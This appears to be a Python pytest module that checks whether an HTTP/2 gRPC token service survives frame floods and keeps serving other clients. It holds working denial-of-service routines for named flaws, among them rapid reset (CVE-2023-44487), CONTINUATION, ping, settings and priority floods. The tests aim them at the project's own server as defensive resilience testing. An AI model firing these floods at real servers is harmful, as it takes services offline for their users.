"""Operations: floods of frames, against a process that must survive them and serve the others."""

from __future__ import annotations

import contextlib
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from h2.events import RemoteSettingsChanged
from h2.settings import SettingCodes

from support.house import call
from support.raw import (
    CONTINUATION,
    HEADERS,
    PING,
    PRIORITY,
    SETTINGS,
    RawClient,
    context_from_files,
    frame,
    raw_client,
)
from support.running import ClientFiles, Running, running_server

OPEN_METHOD = "/secure_api.tokens.v1.TokenService/GetKeySet"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with running_server(tmp_path_factory.mktemp("running")) as running:
        yield running


def context(running: Running) -> ssl.SSLContext:
    admin = running.admin
    return context_from_files(admin.certificate, admin.private_key, admin.ca)


def is_served(running: Running, client: ClientFiles | None = None) -> bool:
    with (client or running.admin).channel(running.address) as channel:
        return call(channel, method=OPEN_METHOD, request=b"", timeout=5).served


END_STREAM, END_HEADERS = 0x1, 0x4


def rapid_reset(client: RawClient) -> None:
    """CVE-2023-44487."""
    for _ in range(30):
        for _ in range(100):
            stream = client.h2.get_next_available_stream_id()
            client.h2.send_headers(stream, client.headers(OPEN_METHOD))
            client.h2.reset_stream(stream)
        client.flush()


def continuation_flood(client: RawClient) -> None:
    """CERT VU#421644: a header block that never ends, six megabytes of it."""
    name = b"x-flood"
    entry = b"\x00" + bytes([len(name)]) + name + b"\x7f" + b"\x81\x07" + b"a" * 1024
    client.send(frame(HEADERS, 0, 1, entry))
    for _ in range(3000):
        client.send(frame(CONTINUATION, 0, 1, entry * 2))


def empty_continuation_flood(client: RawClient) -> None:
    client.send(frame(HEADERS, 0, 1, b""))
    for _ in range(50):
        client.send(frame(CONTINUATION, 0, 1) * 100)


def settings_flood(client: RawClient) -> None:
    """CVE-2019-9515: each needs an acknowledgement, which the attacker does not read."""
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))
    for _ in range(50):
        client.send(one * 100)


def ping_flood(client: RawClient) -> None:
    """CVE-2019-9512."""
    for _ in range(50):
        client.send(frame(PING, 0, 0, bytes(8)) * 100)


def empty_data_flood(client: RawClient) -> None:
    """CVE-2019-9518."""
    stream = client.begin(OPEN_METHOD)
    for _ in range(50):
        client.send(frame(0x0, 0, stream) * 100)


def priority_flood(client: RawClient) -> None:
    """CVE-2019-9513."""
    stream = client.begin(OPEN_METHOD)
    for weight in range(50):
        client.send(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, weight)) * 100)


def stream_flood(client: RawClient) -> None:
    """Streams beyond SETTINGS_MAX_CONCURRENT_STREAMS, each closed without a message."""
    for number in range(3000):
        block = client.h2.encoder.encode(client.headers(OPEN_METHOD))
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, block))


FLOODS = [
    rapid_reset,
    continuation_flood,
    empty_continuation_flood,
    settings_flood,
    ping_flood,
    empty_data_flood,
    priority_flood,
    stream_flood,
]


def resident_bytes(pid: int) -> int:
    return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096


@pytest.mark.parametrize("flood", FLOODS, ids=lambda flood: flood.__name__)
def test_O5_a_flood_of_frames_is_survived_and_others_are_served(
    running: Running, flood: Callable[[RawClient], None]
) -> None:
    """Others are served during the flood, and while its connection stays open."""
    pid = running.server.process.pid
    before = resident_bytes(pid)
    sent, enough = threading.Event(), threading.Event()

    def attack() -> None:
        with raw_client(running.address, context(running)) as client:
            client.wait_for(RemoteSettingsChanged)
            with contextlib.suppress(OSError):  # to be hung up on is a good answer
                flood(client)
            sent.set()
            enough.wait(60)

    attacker = threading.Thread(target=attack)
    attacker.start()
    try:
        while not sent.is_set():
            assert is_served(running)
        assert is_served(running)
    finally:
        enough.set()
        attacker.join(60)
    assert is_served(running)
    assert running.server.process.poll() is None
    assert resident_bytes(pid) - before < 100 * 2**20


def test_G17_one_connection_full_of_silent_unary_calls_leaves_the_door_to_others(
    running: Running,
) -> None:
    """As many calls as allowed at once, without a message, of a method that is open to all."""
    other = running.installation.client("demo")
    with raw_client(running.address, context(running)) as client:
        settings = client.wait_for(RemoteSettingsChanged).changed_settings
        for _ in range(settings[SettingCodes.MAX_CONCURRENT_STREAMS].new_value):
            client.begin(OPEN_METHOD)
        assert is_served(running, other)
        # The attacker's own certificate is held back, but not for long.
        deadline = time.monotonic() + 5
        while not is_served(running):
            assert time.monotonic() < deadline
    assert is_served(running)
